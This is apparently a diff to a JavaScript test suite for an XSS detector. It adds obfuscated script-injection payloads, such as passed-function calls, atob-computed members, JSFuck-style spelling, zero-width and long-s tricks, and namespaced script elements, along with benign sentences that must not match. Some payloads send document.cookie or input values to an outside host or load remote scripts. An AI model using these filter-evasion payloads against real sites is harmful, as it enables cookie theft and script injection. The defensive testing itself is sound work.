@@ -56,6 +56,47 @@ describe("markup and scripts in their less usual forms", () => {
     // What is left when a filter takes the inner element out.
     ["<scri<script>pt src=//example.org/k>", "xss.script-element"],
     ["to=javascript:var{k:onerror}={k:alert}", "xss.javascript-text"],
+    // Functions that the language, the page or a movie calls by itself.
+    ["+{valueOf:prompt}", "xss.passed-function"],
+    ["'k'instanceof{[Symbol.hasInstance]:confirm}", "xss.passed-function"],
+    ["var{k:onblur}={k:confirm};throw 7", "xss.passed-function"],
+    ["queueMicrotask(confirm)", "xss.passed-function"],
+    ["Array.from([7],prompt)", "xss.passed-function"],
+    ["'k'.replace(/k/,confirm)", "xss.passed-function"],
+    ["top.__proto__.k=confirm", "xss.passed-function"],
+    ["k=m?7:7,(k)setter=7?0:prompt,k=7", "xss.passed-function"],
+    ["player.swf?ready=prompt&k=7", "xss.passed-function"],
+    ["Reflect.get(top,'prompt')(7)", "xss.passed-function"],
+    ["fetch(k).then(eval)", "xss.passed-function"],
+    // Members by what some call or some other name says.
+    ["self[atob('cHJvbXB0')](7)", "xss.computed-member"],
+    ["self[Object.keys(self)[7]](7)", "xss.computed-member"],
+    ["this['prompt'](7)", "xss.computed-member"],
+    ["with(document)k(m)", "xss.computed-member"],
+    // Words out of what is no word.
+    ["[+!+[]]+(!![]+[])[+[]]", "xss.spelled-code"],
+    ["k=7==7&&'mpt';m=7==7&&'pro';k+m", "xss.spelled-code"],
+    ["k=''+7;m=k[17]+k[4]+k[9]+k[2]", "xss.spelled-code"],
+    // What the page before has left, and what is sent with it.
+    ["eval(name)", "xss.script-call"],
+    ["setTimeout(location.hash)", "xss.script-call"],
+    ["fetch(`//example.org/$" + "{document.cookie}`)", "xss.document-read"],
+    ["importScripts('//example.org/k')", "xss.script-call"],
+    // Schemes and names that are cut, filled up or written in other letters.
+    ["java\tscript:k()", "xss.javascript-text"],
+    ["prom&zwnj;pt(7)", "xss.script-call"],
+    ["\\u{0000000070}rompt(7)", "xss.script-call"],
+    ["<\u017fcript src=//example.org/k></\u017fcript>", "xss.script-source"],
+    ["data:application/xhtml+xml,<k/>", "xss.data-text"],
+    // Elements of other namespaces and of frameworks.
+    ["<x:script xmlns:x='http://www.w3.org/1999/xhtml'>k()</x:script>", "xss.script-element"],
+    ["<script>'use strict';k()</script>", "xss.script-element"],
+    ["<script>void k()</script>", "xss.script-element"],
+    ["<component is=script src=//example.org/k>", "xss.script-source"],
+    ["<k ng-include=\"'//example.org/k'\">", "xss.frame"],
+    ["<xsl:value-of select=\"document('//example.org/k')\"/>", "xss.xml"],
+    ["<ilayer src=//example.org/k>", "xss.frame"],
+    ["<style>input[value^=k]{background:url(//example.org/k)}</style>", "xss.style-import"],
   ])("VAL-10: %s meets %s", (text, rule) => {
     expect(rulesOf(text)).toContain(rule);
   });
@@ -76,6 +117,16 @@ describe("markup and scripts in their less usual forms", () => {
     "await import('./menu.js') or import('node:fs')",
     "Does it (prompt: yes, alert) work? (7)",
     "The setTimeout `function` waits, location = name of a place",
+    "[![](menu.png)](a) [![](soup.png)](b) [![](week.png)](c)",
+    "sum = a[0]+a[1]+a[2]+a[3], as in 'sums'",
+    "if 1 == 1 then the 'answer' is 42 == 42",
+    "{type:alert} and {get: confirm}; x.then(prompt)",
+    "const name = eval (the name) of a function",
+    "We agreed with (this) and with (document) in hand",
+    "Read the script: it is short. A manuscript: it is long.",
+    "player.swf and level=alert",
+    "k = n > 7 ? 1 : confirm",
+    "columns['alert'] = 7; window[mode](menu)",
   ])("VAL-15: %s", (text) => {
     expect(rulesOf(text)).toEqual([]);
   });
